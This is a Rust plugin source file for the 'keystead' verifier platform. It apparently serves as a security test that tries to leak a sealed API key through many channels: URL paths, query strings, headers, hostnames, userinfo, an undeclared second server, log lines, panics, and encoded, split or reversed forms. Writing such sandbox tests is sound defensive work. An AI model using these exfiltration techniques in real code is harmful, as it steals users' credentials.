//! Tries to get its secret out by every channel that a plugin has. Field `mode` chooses the channel,
//! `steps` tries all of them one after the other. The declared exchange comes first each time, so that
//! the final `valid` is proven.

use keystead_plugin::http::{self, Request, Response};
use keystead_plugin::{Failure, Verdict, Verifier, log};

#[derive(serde::Deserialize)]
#[serde(rename_all = "camelCase")]
struct Exfiltrate {
    api_key: String,
    base_url: String,
    /// Another server, which no rule names.
    #[serde(default)]
    other: String,
    mode: String,
}

/// Channels that go through a request; the others end the run.
const CHANNELS: [&str; 17] = [
    "log",
    "path",
    "query",
    "fragment",
    "header",
    "header-name",
    "body",
    "method",
    "host",
    "userinfo",
    "other-host",
    "upper",
    "split",
    "reversed",
    "hex",
    "reflect",
    "candidates",
];

impl Verifier for Exfiltrate {
    const DESCRIPTOR: &'static str = r#"{
        "descriptor": 1, "id": "exfiltrate", "title": "Exfiltrate", "version": "0.1.0",
        "authorization": {"kind": "api-key"},
        "schema": {"type": "object", "required": ["apiKey", "baseUrl", "mode"], "additionalProperties": false, "properties": {
            "apiKey": {"type": "string", "title": "API key", "minLength": 1, "writeOnly": true},
            "baseUrl": {"type": "string", "title": "Base URL", "format": "uri"},
            "other": {"type": "string", "title": "Other address", "format": "uri"},
            "mode": {"type": "string", "title": "Mode"}}},
        "egress": [{"name": "api", "origin": {"field": "/baseUrl"}, "methods": ["GET", "POST"], "reason": "tries to send bodies"}],
        "sealed": [{"name": "apiKey", "from": {"field": "/apiKey"}, "to": [{"rule": "api", "in": "header", "name": "api_key"}]}]
    }"#;

    fn verify(self) -> Result<Verdict, Failure> {
        note("declared", self.keyed("/store/inventory").send());
        let token = &self.api_key;
        match self.mode.as_str() {
            "message" => return Ok(Verdict::invalid("rejected", format!("The key is {token}."))),
            "account" => return Ok(Verdict::valid().account(token, format!("the owner of {token}"))),
            "panic" => panic!("the key is {token}"),
            "steps" => CHANNELS.iter().for_each(|channel| self.attempt(channel)),
            channel => self.attempt(channel),
        }
        Ok(Verdict::valid())
    }
}

impl Exfiltrate {
    fn at(&self, path: &str) -> Request {
        http::get(http::join(&self.base_url, path))
    }

    /// A request with the key where the descriptor declares it.
    fn keyed(&self, path: &str) -> Request {
        self.at(path).header("api_key", &self.api_key)
    }

    fn attempt(&self, channel: &str) {
        let token = self.api_key.as_str();
        let request = match channel {
            "log" => return log::warn(&format!("the key is {token}")),
            "path" => self.at(&format!("/seen/{token}")),
            "query" => self.at("/seen").query("leak", token),
            "fragment" => self.at(&format!("/seen#{token}")),
            "header" => self.at("/seen").header("x-leak", token),
            "header-name" => self.at("/seen").header(token, "x"),
            "body" => Request::new("POST", http::join(&self.base_url, "/seen")).body(token),
            "method" => Request::new(token, http::join(&self.base_url, "/seen")),
            "host" => http::get(self.base_url.replacen("://", &format!("://{token}."), 1)),
            "userinfo" => http::get(self.base_url.replacen("://", &format!("://{token}@"), 1)),
            "other-host" => http::get(http::join(&self.other, "/seen")).header("api_key", token),
            // A token that was changed is not the token any more: what arrives is not the secret.
            "upper" => self.at("/seen").header("x-leak", &token.to_uppercase()),
            "split" => {
                let (head, tail) = token.split_at(token.len() / 2);
                self.at("/seen").header("x-leak-1", head).header("x-leak-2", tail)
            }
            "reversed" => self.at("/seen").header("x-leak", &token.chars().rev().collect::<String>()),
            "hex" => self.at("/seen").query("leak", &hex(token.as_bytes())),
            "reflect" => return self.pass_on(channel, self.keyed("/reflect").send()),
            "candidates" => return self.pass_on(channel, self.keyed("/candidates").send()),
            _ => self.keyed("/store/inventory"),
        };
        note(channel, request.send());
    }

    /// Sends what an answer showed to places that are no placement of a secret.
    fn pass_on(&self, channel: &str, answer: Result<Response, Failure>) {
        let seen = match &answer {
            Ok(response) => {
                let headers: String =
                    response.headers().iter().map(|(name, value)| format!("{name}={value};")).collect();
                format!("{}:{headers}{}", response.withheld().unwrap_or("shown"), response.text())
            }
            Err(failure) => failure.kind.clone(),
        };
        note(channel, answer);
        note(channel, self.at(&format!("/seen/{}", hex(seen.as_bytes()))).send());
        note(channel, self.at("/seen").query("leak", &seen).send());
    }
}

fn note(channel: &str, answer: Result<Response, Failure>) {
    match answer {
        Ok(response) => log::info(&format!("{channel}: status {}", response.status())),
        Err(failure) => log::info(&format!("{channel}: {}", failure.kind)),
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

keystead_plugin::export!(Exfiltrate);
